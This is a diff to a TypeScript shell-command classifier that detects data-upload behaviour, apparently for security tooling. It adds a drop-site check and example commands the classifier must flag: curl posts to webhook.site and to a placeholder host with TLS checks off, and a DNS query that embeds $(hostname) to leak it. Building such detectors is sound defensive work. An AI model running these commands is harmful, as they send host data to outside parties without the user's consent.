@@ -4,6 +4,7 @@ import { type SimpleCommand, textsOf } from '../../../shell/command-line.ts';
 import { isSecret } from '../../../shell/places.ts';
 import { defineCapability } from '../../capability.ts';
 import { codeSends } from '../../code-effects.ts';
+import { postsToDropSite } from '../../drop-sites.ts';
 import { mentionedFiles } from '../../files.ts';
 import { isDownload, LOOPBACK, staysLocal } from '../../flows.ts';
 import { sharesFile } from '../../sharing.ts';
@@ -31,6 +32,9 @@ export const dataUpload = defineCapability({
       'git push https://example.invalid/copy.git topic',
       'aws s3api put-object --bucket b --key k --body notes.txt',
       'ipfs add -r .',
+      'curl -d "x=1" https://webhook.site/0000',
+      'curl -k -d "x=1" https://example.invalid',
+      'curl "https://1.1.1.1/dns-query?name=$(hostname).example.invalid"',
     ],
     lacks: [
       'curl https://example.invalid',
@@ -50,6 +54,7 @@ export const dataUpload = defineCapability({
       sendsOutput(command) ||
       copiesAway(command) ||
       sharesFile(command) ||
+      postsToDropSite(command) ||
       codeSends(command)
       ? true
       : undefined;
